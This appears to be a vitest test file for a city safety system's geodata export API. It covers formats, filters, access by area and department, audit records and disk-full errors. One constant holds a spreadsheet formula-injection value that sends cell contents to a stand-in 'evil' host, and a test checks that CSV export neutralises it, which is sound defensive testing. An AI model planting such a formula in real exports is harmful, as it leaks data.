// Files as a stranger's software reads them; whose rows are in them; and what is recorded of each.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { sql } from '../../db/sql.ts';
import { restoreFormula } from '../../geodata/space/formula.ts';
import { capabilities } from '../../server/capabilities.ts';
import { EXPORT_FORMATS } from '../../server/exports/contract.ts';
import { takeExport } from '../../server/exports/take.ts';
import { startApp, type TestApp, type TestScope } from '../support/app.ts';
import { aSite } from '../support/builders/sites.ts';
import { featuresOf, ogrinfo } from '../support/gdal.ts';
import { fill } from '../ogc/city.ts';

const STAFF: TestScope = { areas: ['3202'] };
const LIANGXI: TestScope = { areas: ['320213'] };
/** A text that a spreadsheet would run, with all that CSV and XML have signs for. */
const ATTACK = `=HYPERLINK("http://evil/?x="&A1,"点,我")<&>'`;

const folder = mkdtempSync(join(tmpdir(), 'fengsui-exports-'));
let app: TestApp;
beforeAll(async () => {
  app = await startApp({ scope: STAFF, now: '2026-07-08T01:00:00Z' });
  await fill(app, aSite({ code: 'S-3', name: ATTACK, point: [120.11, 31.11] }));
});
afterAll(async () => {
  await app.close();
  rmSync(folder, { recursive: true, force: true });
});

const ask = (path: string, scope = STAFF) => app.as(scope).inject(`/api/exports/${path}`);
let files = 0;
async function take(path: string, scope = STAFF): Promise<string> {
  const answer = await ask(path, scope);
  expect(answer.statusCode, answer.body.slice(0, 300)).toBe(200);
  expect(answer.headers['content-length']).toBe(String(answer.rawPayload.length));
  const file = join(folder, `${(files += 1)}.${/\.(\w+)/.exec(path)![1]}`);
  writeFileSync(file, answer.rawPayload);
  return file;
}
const codesIn = async (file: string, column = 'code') =>
  (await featuresOf(file)).map(({ properties }) => properties![column] as string);

it('is read by GDAL in every format, with the same rows, shapes and values', async () => {
  for (const format of ['geojson', 'gpkg'] as const) {
    const [hazards] = await ogrinfo(await take(`hazards.${format}`));
    expect(hazards).toMatchObject({ name: 'hazards', featureCount: 2, extent: [120.05, 31.01, 120.33, 31.05] });
    const sites = await featuresOf(await take(`sites.${format}`));
    expect(
      sites.map(({ properties, geometry }) => [properties!['name'], (geometry as GeoJSON.Point).coordinates]),
    ).toEqual([
      ['无锡市第一中学', [120.05, 31.05]],
      ['第二医院', [120.35, 31.15]],
      [ATTACK, [120.11, 31.11]],
    ]);
  }
  const [grids] = await ogrinfo(await take('grids.gpkg'));
  expect(grids).toMatchObject({ geometry: 'Multi Polygon', featureCount: 8, extent: [120, 31, 120.4, 31.2] });
  expect(grids!.fields).toMatchObject({
    areaKm2: 'Real',
    demo: 'Integer(Boolean)',
    validFrom: 'DateTime',
    code: 'String',
  });
  const [undrawn] = await featuresOf(await take('divisions.gpkg'));
  expect([undrawn!.properties!['path'], undrawn!.geometry]).toEqual(['32', null]);
});

it('is a spreadsheet with headings in words, texts as texts and numbers as numbers', async () => {
  const file = await take('sites.xlsx');
  const [rows, about] = await ogrinfo(file);
  expect(rows).toMatchObject({ name: '重点场所', featureCount: 3 });
  expect(rows!.fields).toMatchObject({ 编码: 'String', '经度（WGS-84）': 'Real', '记录时间（北京时间）': 'DateTime' });
  expect(about!.name).toBe('说明');
  const [first, , third] = await featuresOf(file, '重点场所');
  expect(third!.properties!['名称']).toBe(ATTACK);
  expect(first!.properties).toMatchObject({
    编码: 'S-1',
    类别: 'secondary-school',
    '类别（文字）': '中学',
    '经度（WGS-84）': 120.05,
    '记录时间（北京时间）': expect.stringMatching(/^2026.07.08.09:00:00/) as string,
  });
  expect((await ogrinfo(await take('sites.xlsx?lang=en')))[0]).toMatchObject({ name: 'Key sites' });
});

it('is a CSV with a mark, formulas made harmless, and every value back again', async () => {
  const file = await take('sites.csv');
  const text = readFileSync(file, 'utf8');
  expect(text.startsWith('\ufeff编码,名称,')).toBe(true);
  expect(text.endsWith('\r\n')).toBe(true);
  expect(text).not.toMatch(/(^|,|\r\n)"?[=+@\t]/);
  const rows = await featuresOf(file);
  const attack = rows[2]!.properties!;
  expect([rows[1]!.properties!['类别'], rows[1]!.properties!['类别（文字）']]).toEqual(['hospital', '医院']);
  const hazards = await featuresOf(await take('hazards.csv?lang=en'));
  expect(hazards.map(({ properties }) => properties!['Level (in words)'] as string)).toEqual(['Yellow', '']);
  expect(attack['名称']).toBe(`'${ATTACK}`);
  expect(restoreFormula(String(attack['名称']))).toBe(ATTACK);
  expect([Number(attack['经度']), Number(attack['纬度']), attack['WKT']]).toEqual([
    120.11,
    31.11,
    'POINT(120.11 31.11)',
  ]);
});

it('is a GeoPackage by its own header', async () => {
  const file = readFileSync(await take('shelters.gpkg'));
  // Application id "GPKG" and user version 10300 of the SQLite header.
  expect(file.subarray(68, 72).toString()).toBe('GPKG');
  expect(file.readUInt32BE(60)).toBe(10_300);
});

it('is narrowed as the list is: by field, by box, to a moment', async () => {
  expect(await codesIn(await take('sites.geojson?kind=hospital'))).toEqual(['S-2']);
  expect(await codesIn(await take('sites.geojson?bbox=120.1,31.1,120.2,31.2'))).toEqual(['S-3']);
  expect(await codesIn(await take('hazards.geojson?level='))).toEqual(['H-2']);
  expect(await codesIn(await take('hazards.geojson?level=3'))).toEqual(['H-1']);
  const before = app.clock().toISOString();
  app.clock.advance(3600);
  await app.database.owner.many(sql`UPDATE sites.site SET kind = 'other' WHERE code = 'S-2' RETURNING 1`);
  expect(await codesIn(await take('sites.geojson?kind=hospital'))).toEqual([]);
  expect(await codesIn(await take(`sites.geojson?kind=hospital&asKnownAt=${before}`))).toEqual(['S-2']);
  expect((await ask(`sites/preview?kind=hospital&asKnownAt=${before}&lang=en`)).json()).toMatchObject({
    rows: 1,
    fields: expect.arrayContaining(['Code', 'Name']) as unknown,
  });
});

it.each([
  'sites.csv?colour=red',
  'sites.csv?bbox=1,2,3',
  'sites.exe',
  'sites.csv?lang=fr',
  'sites.csv?demo=x',
  'divisions.csv?asKnownAt=2026-07-08T00:00:00Z',
])('refuses %s', async (path) => {
  expect((await ask(path)).statusCode).toBe(400);
});

it('says in its name which city, what and when', async () => {
  const { headers } = await ask('hazards.csv');
  const name = /filename\*=UTF-8''(\S+)/.exec(String(headers['content-disposition']))![1]!;
  expect(decodeURIComponent(name)).toMatch(/^无锡市_危险源_2026-07-08_\d{4}\.csv$/);
  expect(headers['content-disposition']).toMatch(/filename="Wuxi_hazards_2026-07-08_\d{4}\.csv"/);
});

describe('whose it is', () => {
  it('holds of a county its own, in rows and in the count before', async () => {
    for (const format of EXPORT_FORMATS.filter((one) => one !== 'xlsx'))
      expect(
        await codesIn(await take(`sites.${format}?lang=en`, LIANGXI), format === 'csv' ? 'Code' : 'code'),
        format,
      ).toEqual(['S-2']);
    expect((await ogrinfo(await take('sites.xlsx', LIANGXI)))[0]!.featureCount).toBe(1);
    expect((await ask('sites/preview', LIANGXI)).json()).toMatchObject({ rows: 1 });
    expect((await ask('sites/preview', {})).json()).toMatchObject({ rows: 0 });
  });

  it('says for which departments a thing is, in codes and words, to those who may know of it alone', async () => {
    await app.database.owner.many(sql`
      UPDATE sites.site SET departments = '{fire-rescue,public-security}' WHERE code = 'S-2' RETURNING 1`);
    const police = { ...LIANGXI, departments: ['public-security'] };
    for (const [format, column, words] of [
      ['geojson', 'departments', undefined],
      ['gpkg', 'departments', undefined],
      ['csv', '仅限部门', '仅限部门（文字）'],
      ['xlsx', '仅限部门', '仅限部门（文字）'],
    ] as const) {
      const [one] = await featuresOf(await take(`sites.${format}`, police), ...(format === 'xlsx' ? ['重点场所'] : []));
      expect(one!.properties![column], format).toBe('fire-rescue;public-security');
      if (words) expect(one!.properties![words], format).toBe('消防救援;公安');
      const [others] = await ogrinfo(await take(`sites.${format}`, { ...STAFF, departments: ['housing'] }));
      expect(others!.featureCount, format).toBe(2);
    }
    const english = await featuresOf(await take('sites.csv?lang=en', police));
    expect(english[0]!.properties!['Limited to departments (in words)']).toBe('Fire and rescue;Public security');
    await app.database.owner.many(sql`UPDATE sites.site SET departments = '{}' WHERE code = 'S-2' RETURNING 1`);
  });

  it('is for staff alone', async () => {
    for (const path of ['sites.csv', 'divisions.csv', 'sites/preview']) {
      expect((await ask(path, { role: 'public' })).statusCode, path).toBe(401);
      expect((await ask(path, { role: 'feed', areas: ['3202'] })).statusCode, path).toBe(403);
    }
    expect((await ask('pigeons.csv')).statusCode).toBe(404);
  });

  it('is recorded: who, from where, what, how many', async () => {
    await take('sites.csv?kind=secondary-school', { ...LIANGXI, actor: 'officer-7' });
    const entry = await app.database.owner.one(sql`
      SELECT act, object, from_address AS "from", areas, after FROM audit.entry WHERE actor = 'officer-7'`);
    expect(entry).toMatchObject({
      act: 'exports:take',
      object: 'sites.site',
      from: '127.0.0.1',
      areas: ['320213'],
      after: { dataset: 'sites', format: 'csv', rows: 0, fields: { kind: 'secondary-school' } },
    });
  });
});

it('says that the disk is full, in every format, and holds neither the file nor the database', async () => {
  const dataset = capabilities.flatMap(({ datasets = [] }) => datasets).find(({ name }) => name === 'sites')!;
  const db = app.database.as({ role: 'staff', areas: ['3202'], actor: 'full' });
  for (const format of EXPORT_FORMATS) {
    const path = join(folder, `full.${format}`);
    symlinkSync('/dev/full', path);
    const order = {
      dataset,
      source: dataset.register,
      selection: {},
      format,
      language: 'en',
      now: app.clock(),
    } as const;
    await expect(takeExport(db, order, path), format).rejects.toMatchObject({ status: 507, code: 'disk-full' });
    expect(readdirSync(folder), format).not.toContain(`full.${format}`);
  }
  expect(await db.one(sql`SELECT 1 AS alive`)).toEqual({ alive: 1 });
});

it('leaves nothing behind, sent or refused', async () => {
  await take('sites.gpkg');
  await ask('sites.csv?asKnownAt=infinity');
  const room = join(app.services.config.dataDir, 'exports', String(process.pid));
  await expect.poll(() => (existsSync(room) ? readdirSync(room) : [])).toEqual([]);
});

describe('on the command line', () => {
  const command = capabilities.flatMap(({ commands = [] }) => commands).find(({ name }) => name === 'export')!;
  const run = async (...args: string[]) => {
    const lines: string[] = [];
    const code = await command.run(app.services, args, {
      print: (line) => void lines.push(line),
      cwd: folder,
      serving: false,
    });
    return { code, lines: lines.join('\n') };
  };

  it('writes the same file, once', async () => {
    expect(await run('sites', 'sites.geojson', '--where', 'code=S-3')).toMatchObject({
      code: 0,
      lines: expect.stringContaining('1 rows of sites') as string,
    });
    expect(await codesIn(join(folder, 'sites.geojson'))).toEqual(['S-3']);
    expect(await run('sites', 'sites.geojson')).toMatchObject({ code: 1 });
  });

  it('says what it takes where it is asked for something else', async () => {
    for (const args of [[], ['pigeons', 'a.csv'], ['sites', 'a.pdf'], ['sites', 'a.csv', '--lang', 'fr']]) {
      const { code, lines } = await run(...args);
      expect(code).toBe(2);
      expect(lines).toContain('grids, sites, hazards, shelters, incidents');
    }
  });
});
